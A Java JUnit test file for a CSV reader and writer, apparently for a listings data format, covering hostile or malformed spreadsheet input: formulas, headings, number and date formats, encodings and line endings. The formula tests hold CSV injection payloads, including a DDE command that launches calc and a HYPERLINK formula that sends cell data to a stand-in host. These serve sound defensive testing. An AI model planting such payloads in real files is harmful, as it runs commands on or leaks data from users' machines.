package org.opdl.schema.hostile;

import static org.assertj.core.api.Assertions.assertThat;
import static org.junit.jupiter.api.Assertions.assertTimeoutPreemptively;

import java.io.ByteArrayInputStream;
import java.io.ByteArrayOutputStream;
import java.nio.charset.StandardCharsets;
import java.time.Duration;
import java.util.ArrayList;
import java.util.List;
import org.junit.jupiter.api.DisplayName;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.extension.ExtendWith;
import org.opdl.model.finding.Finding;
import org.opdl.model.finding.Location;
import org.opdl.model.text.Lang;
import org.opdl.schema.convert.Conversion;
import org.opdl.schema.convert.Formats;
import org.opdl.schema.format.Limits;
import org.opdl.schema.format.ReadException;
import org.opdl.schema.format.WriteOptions;
import org.opdl.schema.hostile.ReaderCatalogueTest.Read;
import org.opdl.schema.testing.NoNetwork;

/**
 * The spreadsheet cases of the hostile-input catalogue that need more than one line: formulas,
 * headings, local numbers and dates, spreadsheet damage, NUL bytes and line endings, stray spaces
 * and a missing heading row. Each ends in listings with located notes, or one located error, in time.
 */
@DisplayName("Catalogue cases for the CSV reader and writer")
@ExtendWith(NoNetwork.class)
class CsvCatalogueTest {

    static final String HEAD = "Listing ID,Title (en),Title (fr),Places,Fee amount,Start date,Participation unit\r\n";

    static Read read(String csv) {
        return ReaderCatalogueTest.read("csv", csv);
    }

    static ReadException refused(String csv) {
        return ReaderCatalogueTest.refused("csv", csv);
    }

    /** The notes of one rule, as "row heading" strings. */
    static List<String> places(Read r, String rule) {
        return r.notes().stream().filter(f -> f.ruleId().equals(rule)).map(Finding::location)
                .map(l -> (Location.Csv) l).map(l -> l.row() + " " + l.heading()).toList();
    }

    static String at(ReadException e) {
        Location.Csv l = (Location.Csv) e.location();
        return l.row() + " " + l.heading();
    }

    static List<Finding> all(Read r) {
        List<Finding> out = new ArrayList<>(r.notes());
        r.records().forEach(s -> out.addAll(s.notes()));
        return out;
    }

    static Read readAll(String csv) {
        Read r = read(csv);
        return new Read(r.records(), all(r));
    }

    @Test
    @DisplayName("a language heading with leading tabs is matched or reported, not a crash (found by fuzzing)")
    void leadingTabsInLanguageHeading() {
        Read r = read("Listing ID,\t\tTitle (iu)\nlisting:nfb/lab-1,ᐃᓄᒃᑎᑐᑦ\n");
        assertThat(r.records()).hasSize(1);
    }

    @Test
    @DisplayName("a sep= line naming the quote as delimiter is refused at row 1, not a crash (found by fuzzing)")
    void sepQuote() {
        ReadException e = refused("sep=\"\nListing ID;Title (English)\nlisting:nfb/lab-1;Lab\n");
        assertThat(e.ruleId()).isEqualTo("opdl.syntax.csv");
        assertThat(((Location.Csv) e.location()).row()).isEqualTo(1);
        assertThat(e.text().en()).contains("sep=").contains("\"");
    }

    @Test
    @DisplayName("C1: text cells a spreadsheet would run are kept as text with a warning at their row and column; numbers are exempt")
    void c1() {
        String[] cells = {"\"=HYPERLINK(\"\"http://x/?\"\"&A1)\"", "=cmd|' /C calc'!A0", "+1+1", "-2+3", "@SUM(A1)",
            "\"\tTabbed\"", "\"\rReturn\"", "\"\nFeed\""};
        StringBuilder csv = new StringBuilder(HEAD);
        for (int i = 0; i < cells.length; i++) {
            csv.append("listing:ab/").append(i).append(',').append(cells[i]).append(",Labo,-2,,,\r\n");
        }
        Read r = readAll(csv.toString());
        assertThat(places(r, "opdl.csv.formula")).containsExactly("2 Title (en)", "3 Title (en)", "4 Title (en)", "5 Title (en)",
                "6 Title (en)", "7 Title (en)", "8 Title (en)", "9 Title (en)");
        assertThat(r.records().get(0).listing().at("/title/en").asString()).isEqualTo("=HYPERLINK(\"http://x/?\"&A1)");
        assertThat(r.records().get(3).listing().at("/intakes/0/places").asInt()).as("a negative number is typed, not a formula").isEqualTo(-2);
    }

    @Test
    @DisplayName("C1: CSV output prefixes ' by default and reports how many cells changed; --no-spreadsheet-safe changes nothing")
    void c1Export() throws Exception {
        String json = "[{\"id\":\"listing:ab/1\",\"title\":{\"en\":\"=SUM(A1)\",\"fr\":\"-2+3\"},\"intakes\":[{\"places\":-2}]},"
                + "{\"id\":\"listing:ab/2\",\"title\":{\"en\":\"Story lab\",\"fr\":\"@Labo\"}}]";
        List<Finding> notes = new ArrayList<>();
        String safe = convert(json, new WriteOptions(Lang.EN, true), notes);
        assertThat(safe).contains(",'=SUM(A1),'-2+3,").contains(",Story lab,'@Labo,").contains(",-2,");
        assertThat(notes).singleElement().satisfies(f -> {
            assertThat(f.ruleId()).isEqualTo("opdl.csv.formula");
            assertThat(f.severity()).isEqualTo(org.opdl.model.finding.Severity.INFO);
            assertThat(f.message(Lang.EN)).startsWith("3 cells");
        });
        assertThat(convert(json, WriteOptions.DEFAULT, new ArrayList<>())).as("neutralised by default").isEqualTo(safe);
        List<Finding> none = new ArrayList<>();
        String plain = convert(json, new WriteOptions(Lang.EN, false), none);
        // Headings may hold apostrophes (Participant's region); the cells must not gain one.
        assertThat(plain).contains(",=SUM(A1),-2+3,");
        assertThat(plain.substring(plain.indexOf('\n'))).doesNotContain("'");
        assertThat(none).isEmpty();
    }

    static String convert(String json, WriteOptions options, List<Finding> notes) {
        ByteArrayOutputStream out = new ByteArrayOutputStream();
        assertTimeoutPreemptively(Duration.ofSeconds(30), () -> Conversion.run("in.json",
                new ByteArrayInputStream(json.getBytes(StandardCharsets.UTF_8)), Formats.named("json").orElseThrow(),
                Limits.DEFAULT, out, Formats.named("csv").orElseThrow(), options, notes::add));
        return out.toString(StandardCharsets.UTF_8);
    }

    @Test
    @DisplayName("C8: case-variant and padded headings are reported; differing duplicates are an error at the cell, neither read, and a cell under a blank heading is an error at the cell")
    void c8() {
        Read dup = read("Listing ID,Title (en),TITLE (EN), Title (fr) \r\nlisting:ab/1,Story lab,Story lab,Labo\r\n");
        assertThat(places(dup, "opdl.csv.duplicate-heading")).containsExactly("1 TITLE (EN)");
        assertThat(places(dup, "opdl.csv.stray-spaces")).containsExactly("1  Title (fr) ");
        assertThat(dup.records().get(0).listing().at("/title/fr").asString()).isEqualTo("Labo");
        Read differ = readAll("Listing ID,Title (en),title (en)\r\nlisting:ab/1,Story lab,Labo\r\n");
        assertThat(places(differ, "opdl.csv.unreadable")).containsExactly("2 title (en)");
        assertThat(differ.records().get(0).listing().has("title")).as("neither value guessed").isFalse();
        Read blank = readAll("Listing ID,,Title (en)\r\nlisting:ab/1,lost?,Story lab\r\n");
        Finding lost = blank.notes().stream().filter(f -> f.ruleId().equals("opdl.csv.unreadable")).findFirst().orElseThrow();
        assertThat(((Location.Csv) lost.location()).column()).isEqualTo("B");
        assertThat(lost.message().en()).contains("lost?").contains("no heading");
        assertThat(blank.records().get(0).listing().at("/title/en").asString()).as("the rest of the row is read").isEqualTo("Story lab");
    }

    @Test
    @DisplayName("C10: unambiguous local amounts are read with a note, a euro sign as the currency; an ambiguous comma is refused at the cell")
    void c10() {
        Read r = readAll(HEAD + "listing:ab/1,A,B,1\u00A0200,1.234\u00A0567,,\r\nlisting:ab/2,A,B,,\"1.234,56\",,\r\n");
        assertThat(r.records().get(0).listing().at("/intakes/0/places").asInt()).isEqualTo(1200);
        assertThat(places(r, "opdl.csv.number-normalised")).as("stated once for the file").containsExactly("2 Places");
        assertThat(r.notes().stream().filter(f -> f.ruleId().equals("opdl.csv.number-normalised")).findFirst().orElseThrow()
                .message(Lang.EN)).startsWith("3 numbers");
        assertThat(r.records().get(1).listing().at("/fees/0/amount/amount").asString()).isEqualTo("1234.56");
        Read euro = readAll(HEAD + "listing:ab/1,A,B,,\u20AC1\u00A0200,,\r\n");
        assertThat(places(euro, "opdl.csv.unreadable")).as("the euro sign names the currency (W51)").isEmpty();
        assertThat(euro.records().get(0).listing().at("/fees/0/amount/currency").asString()).isEqualTo("EUR");
        assertThat(euro.records().get(0).listing().at("/fees/0/amount/amount").asString()).isEqualTo("1200");
        Read comma = readAll(HEAD + "listing:ab/1,A,B,,\"1,200\",,\r\n");
        assertThat(places(comma, "opdl.csv.unreadable")).containsExactly("2 Fee amount");
        assertThat(comma.notes().stream().filter(f -> f.ruleId().equals("opdl.csv.unreadable")).findFirst().orElseThrow()
                .message(Lang.EN)).contains("could mean a thousand or a decimal");
        assertThat(comma.records()).as("the rest of the row is read").singleElement()
                .satisfies(s -> assertThat(s.listing().at("/title/en").asString()).isEqualTo("A"));
    }

    @Test
    @DisplayName("C11: an identifier in scientific notation and a code turned into a date are warned about at their cell")
    void c11() {
        Read r = readAll(HEAD + "1.23457E+15,A,B,,,,1-Mar\r\n");
        assertThat(places(r, "opdl.csv.excel-number")).containsExactly("2 Listing ID");
        assertThat(places(r, "opdl.csv.excel-date")).containsExactly("2 Participation unit");
        assertThat(r.records().get(0).listing().at("/participationUnit").asString()).as("kept as written").isEqualTo("1-Mar");
    }

    @Test
    @DisplayName("C12: an ambiguous date is a finding on its cell; a day over 12 and an Excel serial number are read, each stated once")
    void c12() {
        Read ambiguous = readAll(HEAD + "listing:ab/1,A,B,,,01/02/2025,\r\n");
        assertThat(places(ambiguous, "opdl.csv.unreadable")).containsExactly("2 Start date");
        assertThat(ambiguous.notes().stream().filter(f -> f.ruleId().equals("opdl.csv.unreadable")).findFirst().orElseThrow()
                .message(Lang.EN)).contains("day-first or month-first");
        Read r = readAll(HEAD + "listing:ab/1,A,B,,,13/02/2025,\r\nlisting:ab/2,A,B,,,45678,\r\nlisting:ab/3,A,B,,,2/3/25,\r\n"
                + "listing:ab/4,A,B,,,1900-02-29,\r\n");
        assertThat(r.records().get(0).listing().at("/intakes/0/startDate").asString()).isEqualTo("2025-02-13");
        assertThat(places(r, "opdl.csv.date-normalised")).containsExactly("2 Start date", "3 Start date");
        assertThat(r.records().get(1).listing().at("/intakes/0/startDate").asString()).isEqualTo("2025-01-21");
        assertThat(places(r, "opdl.csv.excel-date")).isEmpty();
        // A two-digit year is refused at its cell with what it lacks (Y78), never read in a century.
        assertThat(r.records().get(2).listing().at("/intakes/0/startDate").isMissingNode()).isTrue();
        assertThat(places(r, "opdl.csv.unreadable")).containsExactly("4 Start date");
        assertThat(r.records().get(3).listing().at("/intakes/0/startDate").asString()).isEqualTo("1900-02-29");
    }

    @Test
    @DisplayName("C14: a NUL byte is an error at its cell; CR-only and mixed line endings are read")
    void c14() {
        ReadException nul = refused(HEAD + "listing:ab/1,Story\u0000lab,B,,,,\r\n");
        assertThat(nul.ruleId()).isEqualTo("opdl.syntax.csv");
        assertThat(at(nul)).isEqualTo("2 Title (en)");
        byte[] utf16 = (HEAD + "listing:ab/1,A,B,,,,\r\n").getBytes(StandardCharsets.UTF_16LE);
        Read wide = assertTimeoutPreemptively(Duration.ofSeconds(30), () -> ReaderCatalogueTest.read("csv", utf16));
        assertThat(wide.records()).as("UTF-16 is read as such, not refused for its NUL bytes").hasSize(1);
    }

    @Test
    @DisplayName("C14: a file saved as UTF-16, with or without a byte-order mark, is read as UTF-16 and said so, never as Windows-1252")
    void c14Utf16NotWindows1252() {
        String csv = HEAD + "listing:prairie-film/story-lab,Story lab,Labo de récit,,,,\r\n";
        byte[] le = csv.getBytes(StandardCharsets.UTF_16LE);
        byte[] leBom = new byte[le.length + 2];
        leBom[0] = (byte) 0xFF;
        leBom[1] = (byte) 0xFE;
        System.arraycopy(le, 0, leBom, 2, le.length);
        for (byte[] bytes : List.of(le, leBom, csv.getBytes(StandardCharsets.UTF_16))) {
            Read r = ReaderCatalogueTest.read("csv", bytes);
            assertThat(r.records()).hasSize(1);
            assertThat(r.records().get(0).listing().at("/title/fr").asString()).isEqualTo("Labo de récit");
            assertThat(r.notes()).filteredOn(f -> f.ruleId().equals("opdl.csv.encoding")).singleElement()
                    .satisfies(f -> assertThat(f.message().en()).contains("UTF-16").doesNotContain("Windows-1252"));
        }
        byte[] windows1252 = csv.getBytes(java.nio.charset.Charset.forName("windows-1252"));
        assertThat(ReaderCatalogueTest.read("csv", windows1252).notes()).extracting(Finding::ruleId).contains("opdl.csv.encoding");
    }

    @Test
    @DisplayName("C14: CR-only and mixed line endings give the same listings")
    void c14LineEndings() {
        String body = "listing:ab/1,Story lab,Labo,,,,\r\nlisting:ab/2,Film lab,Labo film,,,,\r\n";
        Read crlf = read(HEAD + body);
        Read cr = read((HEAD + body).replace("\r\n", "\r"));
        Read mixed = read(HEAD.replace("\r\n", "\n") + body.replaceFirst("\r\n", "\r"));
        assertThat(cr.records()).hasSize(2);
        assertThat(mixed.records()).hasSize(2);
        for (int i = 0; i < 2; i++) {
            assertThat(cr.records().get(i).listing()).isEqualTo(crlf.records().get(i).listing());
            assertThat(mixed.records().get(i).listing()).isEqualTo(crlf.records().get(i).listing());
        }
    }

    @Test
    @DisplayName("C16: spaces around an identifier are kept and warned about; around a code they are removed and warned about")
    void c16() {
        Read r = readAll(HEAD + "listing:ab/1 ,A,B,,,,\u00A0individual\r\nlisting:ab\u00A0/2,A,B,,,,individual\r\n");
        assertThat(places(r, "opdl.csv.stray-spaces")).containsExactly("2 Listing ID", "2 Participation unit", "3 Listing ID");
        assertThat(r.records().get(0).listing().at("/id").asString()).isEqualTo("listing:ab/1 ");
        assertThat(r.records().get(0).listing().at("/participationUnit").asString()).isEqualTo("individual");
        assertThat(r.records().get(0).listing().at("/title/en").asString()).isEqualTo("A");
    }

    @Test
    @DisplayName("C17: a first row of data is refused, naming the headings it should hold")
    void c17() {
        ReadException e = refused("listing:ab/1,Story lab,Labo\r\nlisting:ab/2,Film lab,Labo film\r\n");
        assertThat(e.ruleId()).isEqualTo("opdl.syntax.csv");
        assertThat(((Location.Csv) e.location()).row()).isEqualTo(1);
        assertThat(e.text().en()).contains("\"listing:ab/1\"").contains("Listing ID");
        assertThat(e.text().fr()).contains("ID de la fiche");
    }
}
